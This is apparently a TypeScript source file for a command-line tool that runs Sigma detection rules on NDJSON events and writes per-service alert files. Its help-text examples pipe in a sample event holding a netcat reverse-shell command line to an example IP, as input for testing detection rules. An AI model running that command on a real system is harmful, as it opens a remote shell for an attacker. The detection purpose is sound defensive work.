// `clarion-enrich detect`: Sigma rules on events, alerts per service.
//
// Today: `--events FILE.ndjson`, flat events (one JSON object of Sigma field → value a line) and every
// rule whatever its logsource, as Sigma test harnesses run them. The capture mode (`detect
// <captures...> --services ...`, events derived from provenance) plugs in beside runOnEvents.
import type { Command } from 'commander';
import { type DetectionResult, detectInFlatEvents } from '../detection/detect.js';
import { readFlatEvents } from '../detection/flat-events.js';
import { UsageError } from '../errors.js';
import { ALERT_FILES, type AlertFilesWritten, writeAlertFiles } from '../output/alerts.js';
import { collect, warnLine } from './common.js';
import { type FailOnOutcome, RULE_OPTION_HELP, type RuleOptionValues, applyFailOn, formatDetection, loadRuleSet, parseFailOn } from './detection-common.js';

interface DetectOptions extends RuleOptionValues {
  events?: string;
  outDir: string;
  json?: boolean;
}

export function registerDetect(program: Command): void {
  const cmd = program
    .command('detect')
    .summary('run Sigma rules and write alerts per service')
    .description(
      'Evaluate Sigma rules (SigmaHQ format, specification 2.x detection semantics) and write, in --out-dir:\n' +
        `  ${ALERT_FILES.alerts.padEnd(26)} one row per (rule, event): rule, level, service, process, what matched\n` +
        `  ${ALERT_FILES.svcToRules.padEnd(26)} one row per service: rule files and pids as Python lists (CORAL)\n\n` +
        '--events FILE.ndjson evaluates flat events, one JSON object of Sigma field -> value a line\n' +
        '(- for stdin), with every rule whatever its logsource; the `event` column is the line number.\n' +
        'For rule authors, and for testing rules without a capture.',
    )
    .argument('[captures...]', 'SPADE/CLARION captures (arrives with the pipeline integration; use --events today)')
    .option('--events <file>', 'NDJSON file of flat Sigma events (- for stdin)')
    .option('--rules <path>', RULE_OPTION_HELP.rules, collect)
    .option('-o, --out-dir <dir>', 'directory for the alert files', '.')
    .option('--fail-on <level>', RULE_OPTION_HELP.failOn)
    .option('--skip-invalid-rules', RULE_OPTION_HELP.skipInvalidRules)
    .option('--json', 'print the run summary as JSON on stdout (for CI) instead of text on stderr');
  cmd.addHelpText(
    'after',
    `
Exit codes: 0 ok (alerts or not), 2 usage, 3 unreadable input or invalid rule, 5 an alert at or above --fail-on.

Examples:
  $ clarion-enrich detect --events events.ndjson --rules rules/linux -o alerts/
  $ echo '{"Image":"/usr/bin/nc","CommandLine":"nc -e /bin/sh 203.0.113.5 4444"}' |
      clarion-enrich detect --events - --rules rules/linux/process_creation -o out/ --fail-on high
  $ clarion-enrich detect --events events.ndjson --rules my-rule.yml --rules rules/ --skip-invalid-rules --json`,
  );
  cmd.action(async (captures: string[], opts: DetectOptions) => {
    if (captures.length > 0 && opts.events === undefined) {
      throw new UsageError('detect on captures is not available yet: give flat events with --events FILE.ndjson');
    }
    if (captures.length > 0) throw new UsageError('give either captures or --events, not both');
    if (opts.events === undefined) throw new UsageError('missing --events FILE.ndjson (flat Sigma events, one JSON object a line)');
    await runOnEvents(opts.events, opts);
  });
}

async function runOnEvents(eventsPath: string, opts: DetectOptions): Promise<void> {
  const startedAt = performance.now();
  const failOn = parseFailOn(opts.failOn);
  const warnings: string[] = [];
  const warn = (m: string) => {
    warnings.push(m);
    warnLine(m);
  };
  const ruleSet = await loadRuleSet(opts, 'events', warn);
  const result = await detectInFlatEvents(ruleSet, readFlatEvents(eventsPath));
  const files = await writeAlertFiles(opts.outDir, result);
  const outcome = applyFailOn(result, failOn);
  report('detect', { path: eventsPath, result, files, failOn: outcome, warnings, startedAt }, opts.json === true);
}

interface Report {
  path: string;
  result: DetectionResult;
  files: AlertFilesWritten;
  failOn: FailOnOutcome | null;
  warnings: string[];
  startedAt: number;
}

function report(command: string, r: Report, json: boolean): void {
  const elapsedSeconds = Math.round(performance.now() - r.startedAt) / 1000;
  if (json) {
    const summary = { command, ok: true, inputs: [{ path: r.path, events: r.result.summary.events.total }], ...r.result.summary, files: r.files, failOn: r.failOn, warnings: r.warnings, elapsedSeconds };
    process.stdout.write(`${JSON.stringify(summary, null, 2)}\n`);
    return;
  }
  const lines = [`clarion-enrich ${command} --events ${r.path}`, ...formatDetection(r.result.summary, r.files, r.failOn), `  ${elapsedSeconds.toFixed(2)} s`];
  process.stderr.write(`${lines.join('\n')}\n`);
}
